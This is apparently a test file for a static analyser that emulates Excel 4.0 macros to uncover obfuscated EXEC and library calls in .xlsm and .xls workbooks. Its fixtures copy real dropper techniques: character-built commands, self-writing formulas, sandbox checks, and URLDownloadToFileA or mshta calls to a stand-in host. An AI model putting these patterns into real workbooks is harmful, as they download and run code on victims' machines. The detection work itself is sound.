/** Excel 4.0 macros are folded to what they would do, in both formats of workbooks, and end at limits. */
import { describe, expect, test } from 'vitest';
import { parseFormula } from '../../../lib/engines/static/office/xlm/expression.ts';
import { foldMacros } from '../../../lib/engines/static/office/xlm/machine.ts';
import { type Cell, keyOf, type MacroBook } from '../../../lib/engines/static/office/xlm/macro-book.ts';
import { readWorkbookCells } from '../../../lib/engines/static/office/xlm/workbook-cells.ts';
import { buildXls, formula, label, name, words, type XlsRecord } from '../../fixtures/build-xls.ts';
import { workbook } from '../../hostile/static/document-fixture.ts';
import { reportOn } from './analyse.ts';

const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

/** A package whose macro sheet `a` has these cells: a formula begins with `=`, and everything else is a text. */
function macroBook(cells: Readonly<Record<string, string>>): Buffer {
  const written = Object.entries(cells).map(([place, content]) =>
    content.startsWith('=')
      ? `<c r="${place}"><f>${escaped(content.slice(1))}</f><v>0</v></c>`
      : `<c r="${place}" t="str"><v>${escaped(content)}</v></c>`,
  );
  return workbook(
    `<xm:macrosheet xmlns:xm="urn:x"><sheetData><row>${written.join('')}</row></sheetData></xm:macrosheet>`,
  );
}

async function callsOf(cells: Readonly<Record<string, string>>): Promise<string> {
  const { findings, level } = await reportOn(macroBook(cells), 'a.xlsm');
  expect(level).toBe('malicious');
  return findings.find(({ id }) => id === 'xlm-dangerous-call')?.evidence ?? '';
}

const EXEC = 'EXEC("cmd /c echo inert")';

test.each<[string, Readonly<Record<string, string>>, string]>([
  ['numbers of characters', { A1: '=EXEC(CHAR(99)&CHAR(109)&CHAR(100)&" /c echo inert")' }, EXEC],
  ['pieces in cells', { A1: '=EXEC(B1&B2&B3)', B1: 'cmd', B2: ' /c ', B3: 'echo inert' }, EXEC],
  [
    'a formula that is written to a cell and runs there',
    { A1: '=FORMULA("=EXEC("&CHAR(34)&B1&CHAR(34)&")",A3)', A2: '=GOTO(A3)', B1: 'cmd /c echo inert' },
    EXEC,
  ],
  [
    'a formula that is written by R1C1',
    { A1: '=FORMULA("=EXEC(""cmd /c echo inert"")","R3C1")', A2: '=SET.NAME("x",1)' },
    EXEC,
  ],
  [
    'a check of mouse and sound',
    { A1: '=IF(GET.WORKSPACE(19),,CLOSE(TRUE))', A2: '=IF(GET.WORKSPACE(42),GOTO(A5),HALT())', A5: `=${EXEC}` },
    EXEC,
  ],
  ['a check that is not known', { A1: '=IF(GET.CELL(17,B1)=3,HALT(),GOTO(A4))', A4: `=${EXEC}` }, EXEC],
  ['a macro that stops first', { A1: '=HALT()', A2: `=${EXEC}` }, EXEC],
  ['a jump', { A1: '=GOTO(C9)', C9: `=${EXEC}` }, EXEC],
  [
    'a macro that is called',
    {
      A1: '=RUN(C9)',
      A2: '=HALT()',
      C9: '=SET.NAME("what","cmd /c echo inert")',
      C10: '=EXEC(what)',
      C11: '=RETURN()',
    },
    EXEC,
  ],
  ['parts of a text', { A1: '=EXEC(MID("xxcmd /c echo inertyy",3,17))' }, EXEC],
  ['replaced letters', { A1: '=EXEC(SUBSTITUTE("c#md# /c# echo# inert","#",""))' }, EXEC],
  [
    'a sum in each letter',
    { A1: '=EXEC(CHAR(90+9)&CHAR(B1*2-1)&CHAR(MOD(300,200))&" /c echo inert")', B1: '55' },
    EXEC,
  ],
  ['a rectangle of letters', { A1: '=EXEC(CONCATENATE(B1:B3))', B1: 'cmd', B2: ' /c echo', B3: ' inert' }, EXEC],
  ['a cell that a text names', { A1: '=EXEC(INDIRECT("B"&2))', B2: 'cmd /c echo inert' }, EXEC],
  [
    'a loop',
    {
      A1: '=SET.NAME("i",0)',
      A2: '=SET.NAME("s","")',
      A3: '=SET.NAME("i",i+1)',
      A4: '=SET.NAME("s",s&MID("cmd /c echo inert",i,1))',
      A5: '=IF(i<17,GOTO(A3),)',
      A6: '=EXEC(s)',
    },
    EXEC,
  ],
  [
    'a function of a library under another name',
    {
      A1: '=REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","Fetch",,1,9)',
      A2: '=Fetch(0,"http://files.example.invalid/a","C:\\a.dll",0,0)',
    },
    'REGISTER("urlmon", "URLDownloadToFileA", "JJCCJJ", "Fetch", "", 1, 9)\nurlmon!URLDownloadToFileA(0, "http://files.example.invalid/a", "C:\\a.dll", 0, 0)',
  ],
  [
    'a call of a library',
    { A1: '=CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open",B1,0,0,5)', B1: 'rundll32' },
    'CALL("Shell32", "ShellExecuteA", "JJCCCJJ", 0, "open", "rundll32", 0, 0, 5)',
  ],
  ['something that is not known', { A1: '=EXEC("cmd /c "&CHAR(GET.CELL(17,B1)))' }, 'EXEC("cmd /c ?")'],
])('%s', async (_, cells, expected) => {
  expect(await callsOf(cells)).toBe(expected);
});

test('what the macros would do is looked at for addresses', async () => {
  const report = await reportOn(
    macroBook({ A1: '=EXEC("mshta "&"ht"&"tp://files.exam"&"ple.invalid/a.hta")' }),
    'a.xlsm',
  );
  expect(report.iocs).toContainEqual({ type: 'url', value: 'http://files.example.invalid/a.hta' });
});

describe('macros without an end', () => {
  function book(cells: Readonly<Record<string, string>>): MacroBook {
    const map = new Map<number, Cell>();
    for (const [place, text] of Object.entries(cells)) {
      const [row, column] = [Number(place.slice(1)) - 1, place.charCodeAt(0) - 65];
      map.set(keyOf({ row, column }), { formula: parseFormula(text), value: null });
    }
    const names = new Map([['auto_open', { kind: 'cell', cell: { sheet: 'm', row: 0, column: 0 } } as const]]);
    return { sheets: [{ name: 'm', isMacro: true, cells: map }], names };
  }

  test.each([
    ['a jump to itself', { A1: '=GOTO(A1)' }],
    ['a macro that calls itself', { A1: '=RUN(A1)' }],
    ['cells that ask for each other', { A1: '=B1&"a"', B1: '=A1&"b"' }],
    ['a text that doubles', { A1: '=SET.NAME("s","abcdefgh")', A2: '=SET.NAME("s",s&s)', A3: '=GOTO(A2)' }],
    ['names that are each other', { A1: '=SET.NAME("a",b)', A2: '=SET.NAME("b",a)', A3: '=EXEC(a)' }],
    ['formulas that write the next one', { A1: '=FORMULA("=GOTO(A1)",A2)', A2: '=GOTO(A1)' }],
    ['a rectangle of a whole sheet', { A1: '=FORMULA.FILL("x",A2:XFD1048576)', A2: '=CONCATENATE(A1:XFD1048576)' }],
    ['repetition', { A1: '=REPT("abcdefgh",1E9)&REPT("x",1E9)' }],
  ])('%s ends', (_, cells) => {
    expect(foldMacros(book({ ...cells, C1: '=EXEC("inert")' })).calls).toContain('EXEC("inert")');
  });

  test.each([
    '(((('.repeat(50_000),
    '='.repeat(9_000),
    `${'-'.repeat(9_000)}1`,
    'SUM('.repeat(4_000),
    '"',
    'A1:',
    '%%%',
  ])('no formula: %#', (text) => {
    expect(parseFormula(text)).toBeNull();
  });
});

describe('a workbook of Excel 97 to 2003', () => {
  const text = (content: string) =>
    Buffer.concat([Buffer.from([0x17, content.length, 0]), Buffer.from(content, 'latin1')]);
  const number = (value: number) => Buffer.concat([Buffer.from([0x1e]), words(value)]);
  const fixed = (id: number) => Buffer.concat([Buffer.from([0x41]), words(id)]);
  const counted = (count: number, id: number) => Buffer.concat([Buffer.from([0x42, count]), words(id)]);
  const cell = (row: number, column: number) => Buffer.concat([Buffer.from([0x44]), words(row, column | 0xc000)]);
  const otherCell = (row: number, column: number) =>
    Buffer.concat([Buffer.from([0x5a]), words(0, row, column | 0xc000)]);
  const [CHAR, GOTO, JOIN, EXEC_ID, HALT, WORKSPACE, IF, FORMULA] = [
    fixed(111),
    fixed(53),
    Buffer.from([8]),
    counted(1, 110),
    counted(0, 54),
    fixed(186),
    1,
    0x8060,
  ];
  const SHEETS: XlsRecord = [0x0017, words(1, 0, 0, 0)];

  const macros = (...records: XlsRecord[]) =>
    buildXls({
      sheets: [{ name: 'm', kind: 1, begin: 0x40, state: 1, records }],
      globals: [SHEETS, name('auto_open', otherCell(0, 0), 0x0e)],
    });
  const at = (row: number, ...tokens: Uint8Array[]) => formula(row, 0, Buffer.concat(tokens));

  test.each<[string, Buffer, string]>([
    ['letters by number', macros(at(0, number(99), CHAR, text('alc'), JOIN, EXEC_ID)), 'EXEC("calc")'],
    ['a text in another cell', macros(label(3, 2, 'calc'), at(0, cell(3, 2), EXEC_ID)), 'EXEC("calc")'],
    ['a jump', macros(at(0, cell(8, 0), GOTO), at(8, text('calc'), EXEC_ID), at(9, HALT)), 'EXEC("calc")'],
    [
      'a check of the mouse',
      macros(at(0, number(19), WORKSPACE, cell(4, 0), GOTO, HALT, counted(3, IF)), at(4, text('calc'), EXEC_ID)),
      'EXEC("calc")',
    ],
    [
      'a formula that is written',
      macros(at(0, text('=EXEC("calc")'), cell(1, 0), counted(2, FORMULA))),
      'EXEC("calc")',
    ],
  ])('%s', async (_, bytes, expected) => {
    const report = await reportOn(bytes, 'a.xls');
    expect(report.level).toBe('malicious');
    expect(report.findings.find(({ id }) => id === 'xlm-dangerous-call')?.evidence).toBe(expected);
  });

  test('a macro that only counts is not an attack', async () => {
    const report = await reportOn(macros(at(0, number(1), number(2), Buffer.from([3]))), 'a.xls');
    expect(report.findings.map(({ id }) => id)).not.toContain('xlm-dangerous-call');
  });

  test('tokens and records that are cut off end at their end', () => {
    const whole = macros(at(0, number(99), CHAR, text('alc'), JOIN, EXEC_ID));
    const stream = Buffer.from(whole.subarray(512));
    for (let length = 0; length < 400; length += 7) {
      expect(() => readWorkbookCells(stream.subarray(0, length))).not.toThrow();
    }
  });
});
